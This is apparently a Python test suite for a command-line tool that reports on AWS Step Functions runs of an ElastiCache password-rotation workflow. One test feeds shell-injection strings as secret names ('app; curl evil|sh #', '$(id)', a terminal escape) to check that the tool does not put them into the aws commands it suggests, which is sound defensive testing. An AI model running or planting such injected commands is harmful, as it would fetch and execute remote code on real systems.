"""``python -m report``: its output by snapshot, which execution it takes, how it ends.

`make snapshots` writes what is printed anew.
"""

import dataclasses
import json
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError
from rich.console import Console

from report import __main__ as report
from report import follow, source
from report.about import About
from report.history import Run
from report.remedy import PAGE, remedy_of
from report.terminal import show
from tests.report.__main__ import FOREIGN, SNAPSHOTS, shown
from tests.report.fake_step_functions import MACHINE, FakeStepFunctions
from tests.report.foreign import ORDER, History, big_map, order
from tests.report.recorded import HISTORIES, NAMES, recorded

#: What stands on one line, however long, to be copied.
COPIED = ("execution ", "console ", "input ", "output ")


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> FakeStepFunctions:
    fake = FakeStepFunctions(ORDER)
    monkeypatch.setattr(boto3, "client", lambda service, region_name: fake)
    monkeypatch.setenv("STATE_MACHINE_ARN", MACHINE)
    monkeypatch.setattr(report, "_POLL_SECONDS", 0)
    return fake


def printed(capsys: pytest.CaptureFixture[str], *arguments: str, status: int = 0) -> str:
    assert report.main(arguments) == status
    return capsys.readouterr().out


def refused(capsys: pytest.CaptureFixture[str], arguments: Sequence[str]) -> str:
    assert report.main(arguments) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("error: ")
    assert captured.err.count("\n") == 1
    return captured.err


def exported(directory: Path, history: History) -> str:
    file = directory / "history.json"
    file.write_text(json.dumps({"events": history.events}))
    return str(file)


# -- what is printed


@pytest.mark.parametrize("name", [*NAMES, *FOREIGN])
def test_the_terminal_shows(name: str) -> None:
    assert shown(name) == (SNAPSHOTS / f"{name}.txt").read_text(), "run `make snapshots`"


def test_what_is_piped_is_plain_and_has_80_columns() -> None:
    for snapshot in SNAPSHOTS.glob("*.txt"):
        text = snapshot.read_text()
        assert "\x1b" not in text
        for line in text.splitlines():
            assert line == line.rstrip()
            assert len(line) <= 80 or line.startswith(("aws ", "  ", *COPIED))


def test_json_tells_each_state_and_attempt(capsys: pytest.CaptureFixture[str]) -> None:
    out = printed(capsys, "--history", str(HISTORIES / "both-passwords.json"), "--json")
    told = json.loads(out)
    assert (told["schema"], told["status"], told["failedState"]) == (1, "FAILED", "Log In")
    assert told["remedy"]["pending"] == "was removed"
    [failed] = [each for each in told["states"] if each["outcome"] == "failed" and each["within"]]
    assert failed["within"] == {"state": "Test Authentication", "iteration": 0}
    assert failed["attempts"][0]["error"] == "AnyPasswordAcceptedError"


def test_each_name_in_the_json_is_in_the_docs(capsys: pytest.CaptureFixture[str]) -> None:
    told = json.loads(printed(capsys, "--history", str(HISTORIES / "killed.json"), "--json"))
    page = (PAGE.parent / "report.md").read_text()
    attempt = next(each["attempts"][0] for each in told["states"] if each["attempts"])
    for name in [*told, *told["states"][0], *attempt, *told["remedy"]]:
        assert f"`{name}`" in page


def test_a_picture_says_how_long_each_state_took(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    file = tmp_path / "run.svg"
    printed(capsys, "--history", str(HISTORIES / "killed.json"), "--svg", str(file))
    picture = ET.fromstring(file.read_text())
    assert picture.get("aria-label") == "SUCCEEDED after 23.1 s"
    texts = ["".join(each.itertext()) for each in picture.iter() if each.tag.endswith("}text")]
    assert texts[texts.index("✓ Modify User") + 1] == "7.0 s, 3 attempts"


def test_mermaid_has_each_state_in_the_colour_of_its_outcome(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    definition = tmp_path / "definition.json"
    definition.write_text(json.dumps({"definition": json.dumps(ORDER)}))
    file = exported(tmp_path, order())
    out = printed(capsys, "--history", file, "--definition", str(definition), "--mermaid")
    assert '["Charge"]:::failed' in out
    assert '{"Is It Big?"}:::succeeded' in out
    assert '(["Small"]):::not-entered' in out


@pytest.mark.parametrize(
    "name, current, pending, user, clients",
    [
        ("succeeded", "is version", "was removed", "", ""),
        ("dry-run", "was not moved", "a dry run changes nothing", "", ""),
        ("refused", "was not moved", "was removed", "was not changed", "not locked out"),
        ("locked-out", "was not moved", "was removed", "was not changed", "LOCKED OUT"),
        (
            "both-passwords",
            "was not moved",
            "was removed",
            "has the new password",
            "not locked out",
        ),
        ("not-closed", "was not moved", "may be on", "may have the new password", "unknown"),
        ("aborted", "was not moved", "start an execution", "may have the new password", "unknown"),
    ],
)
def test_what_is_left_is_told_by_the_history(
    name: str, current: str, pending: str, user: str, clients: str
) -> None:
    remedy = remedy_of(recorded(name))
    assert remedy
    assert current in remedy.current
    assert pending in remedy.pending
    assert user in remedy.user
    assert clients in remedy.clients
    assert bool(clients) == bool(remedy.clients)


def closed(name: str, **codes: object) -> Run:
    """A recorded run whose Close Rotation has told something else."""
    run = recorded(name)
    [closing] = [visit for visit in run.top() if visit.name == "Close Rotation"]
    state = json.loads(closing.output)
    state["Closing"] |= codes
    closing.output = json.dumps(state)
    return run


@pytest.mark.parametrize(
    "codes, field, told",
    [
        ({"Promoted": True}, "current", "which this run has set"),
        ({"Pending": "KEPT"}, "pending", "could not be taken off"),
        ({"User": "FIRST_PASSWORD"}, "user", "has its first password"),
        # Of another release.
        ({"Pending": "LOST", "Clients": "ALIVE"}, "pending", "is unknown"),
        ({"Clients": "ALIVE"}, "clients", "Clients: unknown (Close Rotation has not verified it)"),
        ({"User": "GONE"}, "user", "is unknown"),
    ],
)
def test_what_close_rotation_has_told_counts(
    codes: dict[str, object], field: str, told: str
) -> None:
    assert told in str(getattr(remedy_of(closed("both-passwords", **codes)), field))


@pytest.mark.parametrize("output", ["", "null", "[]", "no JSON", "{}", '{"Closing": {}}'])
def test_what_nobody_has_told_is_unknown(output: str) -> None:
    run = recorded("both-passwords")
    [closing] = [visit for visit in run.top() if visit.name == "Close Rotation"]
    closing.output = output
    remedy = remedy_of(run)
    assert remedy
    assert remedy.clients == "Clients: unknown (Close Rotation has not verified it)"
    assert remedy.pending.startswith("may be")


@pytest.mark.parametrize(
    "codes, current",
    [
        ({"Pending": "REMOVED"}, "was not moved"),
        ({"Pending": "KEPT"}, "may be "),
        ({"Promoted": None}, "may be "),
    ],
)
def test_a_promotion_of_which_nobody_knows_may_have_counted(
    codes: dict[str, object], current: str
) -> None:
    run = closed("both-passwords", **codes)
    promote = dataclasses.replace(run.top()[-1], name="Promote Version", outcome="caught")
    run.visits.append(promote)
    remedy = remedy_of(run)
    assert remedy
    assert current in remedy.current


@pytest.mark.parametrize(
    "name, values, secret",
    [
        ("succeeded", 3, "the new password is in 3 values"),
        ("dry-run", 1, "the new password would be in 1 value"),
        ("both-passwords", 2, "the new password would be in 2 values"),
    ],
)
def test_what_a_run_does_to_the_secret_and_does_not_test_is_told(
    name: str, values: int, secret: str
) -> None:
    run = recorded(name)
    for visit in run.top():
        if visit.name in ("Check Target", "Find Endpoints", "Find Endpoints Again"):
            state = json.loads(visit.output)
            state["Target"]["ChangedValues"] = values
            if "Network" in state:
                state["Network"]["NotTested"] = ["far", "off"]
            visit.output = json.dumps(state)
    console = Console(width=100)
    with console.capture() as captured:
        show(run, remedy_of(run), console)
    assert f"the secret  {secret}\n" in captured.get()
    assert "not tested  far, off\n" in captured.get()


@pytest.mark.parametrize("name", ["refused", "locked-out", "both-passwords", "not-closed"])
def test_the_first_line_of_a_failed_run_says_whether_clients_are_locked_out(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    first = printed(capsys, "--history", str(HISTORIES / f"{name}.json")).splitlines()[0]
    remedy = remedy_of(recorded(name))
    assert remedy
    assert first == remedy.clients


# -- what has happened since


class Secrets:
    def __init__(self, **described: Any) -> None:
        self.described = described

    def describe_secret(self, *, SecretId: str) -> dict[str, Any]:
        assert SecretId.startswith("arn:aws:secretsmanager:us-east-1:123456789012:secret:")
        if not self.described:
            told = {"Code": "AccessDeniedException", "Message": "No."}
            raise ClientError({"Error": told}, "DescribeSecret")
        return self.described


FAILED = recorded("both-passwords")
FOUND, MADE = (About.of(FAILED).target[key] for key in ("CurrentVersionId", "VersionId"))
LATER, EARLIER = FAILED.stopped + timedelta(hours=6), FAILED.started - timedelta(days=30)


@pytest.mark.parametrize(
    "current, rotated, told",
    [
        ("another", LATER, "a rotation has succeeded, at 2026-11-26 02:48 UTC"),
        ("another", EARLIER, "AWSCURRENT was moved, to another, by a run by hand or a person"),
        (FOUND, EARLIER, "no rotation has succeeded"),
        (MADE, EARLIER, f"AWSCURRENT is version {MADE}, which this run made"),
        (FOUND, None, "no rotation has succeeded"),
    ],
)
def test_whether_a_later_rotation_has_succeeded_is_told_by_the_secret(
    current: str, rotated: datetime | None, told: str
) -> None:
    versions = {"other": ["AWSPREVIOUS"], current: ["AWSCURRENT"]}
    secrets = Secrets(VersionIdsToStages=versions, LastRotatedDate=rotated)
    assert source.since(About.of(FAILED), FAILED, secrets) == f"Since then: {told}"


def test_a_secret_that_was_deleted_since_is_said_to_be() -> None:
    told = source.since(About.of(FAILED), FAILED, Secrets(DeletedDate=LATER))
    assert told == "Since then: the secret was marked for deletion"


def test_a_run_that_has_not_seen_the_labels_does_not_deny_a_run_by_hand() -> None:
    about = About("", About.of(FAILED).secret, {})
    told = source.since(about, FAILED, Secrets(VersionIdsToStages={"x": ["AWSCURRENT"]}))
    assert told.endswith("no rotation of Secrets Manager has succeeded; a run by hand may have")


def test_without_the_permission_it_is_unknown() -> None:
    told = source.since(About.of(FAILED), FAILED, Secrets())
    assert told == "Since then: unknown (DescribeSecret: AccessDeniedException: No.)"


# -- which run it was


def test_a_run_is_named_by_secret_user_and_place() -> None:
    about = About.of(FAILED)
    assert about.line == (
        "secret production/sessions/app of user app, account 123456789012, us-east-1"
    )
    assert about.console.startswith("https://us-east-1.console.aws.amazon.com/states/")
    assert about.filled("--secret-id SECRET_NAME USER_ARN MACHINE_ARN STACK_NAME CACHE") == (
        "--secret-id production/sessions/app arn:aws:elasticache:us-east-1:123456789012:user:app "
        "arn:aws:states:us-east-1:123456789012:stateMachine:elasticache-rotation-rotation "
        "elasticache-rotation sessions"
    )


@pytest.mark.parametrize("secret", ["app; curl evil|sh #", "$(id)", "a\x1b]0;b", "--output", "a b"])
def test_what_could_be_more_than_an_argument_stays_to_be_filled_in(secret: str) -> None:
    about = About("", secret, {})
    assert about.filled("aws x --secret-id SECRET_NAME") == "aws x --secret-id SECRET_NAME"


def test_a_run_without_a_secret_is_told_nothing_since() -> None:
    told = source.since(About("arn", "", {}), FAILED, Secrets())
    assert told == "Since then: unknown (the run names no secret)"


def test_what_is_not_known_stays_to_be_filled_in() -> None:
    begun = Run(visits=FAILED.visits[:1])
    assert About.of(begun).filled("USER_ID of SECRET_NAME") == "USER_ID of SECRET_NAME"
    assert About.of(begun).line == ""


# -- which execution


def test_the_recent_executions_are_listed_newest_first(
    world: FakeStepFunctions, capsys: pytest.CaptureFixture[str]
) -> None:
    token = "30fb105b-2f0f-4fa4-ade5-760062c2ab66"
    world.put("mine", order().events, "FAILED")
    world.put(f"{token}-2", order().events, "SUCCEEDED", '{"SecretId": "app"}')
    world.put(f"{token}-dry-run-1", order().events, "SUCCEEDED", '{"SecretId": "app"}')
    dry, _, *lines = printed(capsys).splitlines()
    assert dry.endswith("  app  dry run, attempt 1")
    assert dry.startswith("2026-03-01 12:00 UTC  ")
    assert lines[0].split() == [
        *("2026-03-01", "11:00", "UTC", "SUCCEEDED", "1", "min", "30", "s"),
        *("app", "attempt", "2"),
    ]
    assert lines[1].endswith(f":execution:orders:{token}-2")
    assert lines[2].endswith("by hand: mine")


@pytest.mark.parametrize(
    "arguments, name",
    [
        (["--last"], "third"),
        (["--last-failed"], "second"),
        (["--secret", "app"], "second"),
        (["--secret", "arn:aws:secretsmanager:eu-west-1:1:secret:app-AbCdEf"], "second"),
    ],
)
def test_the_execution_that_is_asked_for_is_shown(
    world: FakeStepFunctions,
    capsys: pytest.CaptureFixture[str],
    arguments: list[str],
    name: str,
) -> None:
    world.put("first", order().events, "FAILED", '{"SecretId": "app"}')
    by_arn = '{"SecretId": "arn:aws:secretsmanager:eu-west-1:1:secret:app-AbCdEf"}'
    world.put("second", order().events, "FAILED", by_arn)
    world.put("third", order().events, "SUCCEEDED", '{"SecretId": "web"}')
    assert f"\n{name}, 2026-03-01 10:" in printed(capsys, *arguments)


def test_a_long_history_is_read_in_pages_of_1000(
    world: FakeStepFunctions, capsys: pytest.CaptureFixture[str]
) -> None:
    events = big_map(400).events
    arn = world.put("long", events, "FAILED")
    told = json.loads(printed(capsys, arn, "--json"))
    assert len([each for each in told["states"] if each["name"] == "One"]) == 400
    pages = [call[1:] for call in world.calls if call[0] == "get_execution_history"]
    assert pages[0] == (len(events), len(events) - 999)
    assert pages[-1][1] == 1
    assert told["notes"] == []


# -- following


@pytest.mark.parametrize(
    "last, status, code",
    [
        ("ExecutionSucceeded", "SUCCEEDED", 0),
        ("ExecutionFailed", "FAILED", 3),
        ("ExecutionTimedOut", "TIMED_OUT", 4),
        ("ExecutionAborted", "ABORTED", 5),
    ],
)
def test_watching_ends_with_the_outcome(
    world: FakeStepFunctions,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    last: str,
    status: str,
    code: int,
) -> None:
    monkeypatch.setattr(follow, "_SIGN_OF_LIFE_SECONDS", -1)
    events = order().events
    events[-1]["type"] = last
    world.step = 7
    arn = world.put("live", events, status)
    out = printed(capsys, arn, "--watch", status=code)
    assert "\n          still Charge " in out
    assert out.count("! Both") == 1
    assert out.index("Is It Big?") < out.index("Order Failed") < out.index(f"\n{status} ")
    pages = [call[1:] for call in world.calls if call[0] == "get_execution_history"]
    assert len(pages) > 3


# -- what cannot be done


@pytest.mark.parametrize(
    "arguments, told",
    [
        (["--last"], "has no such execution"),
        (["--secret", "nobody"], "has no such execution"),
        (["arn:aws:states:eu-west-1:1:execution:orders:gone"], "ExecutionDoesNotExist"),
        (["orders"], "orders is not the ARN"),
        ([MACHINE], "is not an execution's ARN"),
        (["--history", "/nowhere.json"], "/nowhere.json: No such file"),
        (["--history", str(PAGE)], "is not JSON"),
    ],
)
def test_what_cannot_be_read_is_one_line(
    world: FakeStepFunctions,
    capsys: pytest.CaptureFixture[str],
    arguments: list[str],
    told: str,
) -> None:
    assert told in refused(capsys, arguments)


@pytest.mark.parametrize(
    "arguments, told",
    [
        (["--last", "--definition", "x"], "--definition goes with --history"),
        (["--history", "x", "--watch"], "--watch follows an execution"),
        *(([f"--{name}"], f"--{name} of which run?") for name in ("watch", "json", "mermaid")),
        *(([f"--{name}", "x"], f"--{name} of which run?") for name in ("html", "svg")),
    ],
)
def test_arguments_that_make_no_sense_are_an_error_of_their_own(
    world: FakeStepFunctions, capsys: pytest.CaptureFixture[str], arguments: list[str], told: str
) -> None:
    with pytest.raises(SystemExit) as ended:
        report.main(arguments)
    assert ended.value.code == 2
    assert told in capsys.readouterr().err.splitlines()[-1]
    assert world.calls == []


def test_without_a_machine_it_asks_for_one(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("STATE_MACHINE_ARN", raising=False)
    assert "Give --state-machine ARN or set STATE_MACHINE_ARN" in refused(capsys, [])


@pytest.mark.parametrize(
    "history, definition, told",
    [
        ("{}", "{}", 'history.json: has no list "events"'),
        ('{"events": [{}]}', "{}", "history.json: has an event without an id"),
        (
            '{"events": [{"id": 1, "type": "X", "timestamp": 1}]}',
            "[]",
            "definition.json: is not a state machine",
        ),
        (
            '{"events": [{"id": 1, "type": "X", "timestamp": 1}]}',
            '{"StartAt": "A", "States": {"A": {"Type": "Pass", "Next": "B"}}}',
            "has no state 'B'",
        ),
        (
            '{"events": [{"id": 1, "type": "X", "timestamp": 1}]}',
            '{"States": {"A": 1}}',
            "definition.json: is not a state machine",
        ),
    ],
)
@pytest.mark.parametrize("output", ["--mermaid", "--html"])
def test_files_that_are_not_what_they_should_be_are_named(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    history: str,
    definition: str,
    told: str,
    output: str,
) -> None:
    one, two = tmp_path / "history.json", tmp_path / "definition.json"
    one.write_text(history)
    two.write_text(definition)
    how = [output] if output == "--mermaid" else [output, str(tmp_path / "page.html")]
    assert told in refused(capsys, ["--history", str(one), "--definition", str(two), *how])


def test_a_page_that_cannot_be_written_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    history: Any = str(HISTORIES / "aborted.json")
    assert "/nowhere/page.html" in refused(
        capsys, ["--history", history, "--html", "/nowhere/page.html"]
    )
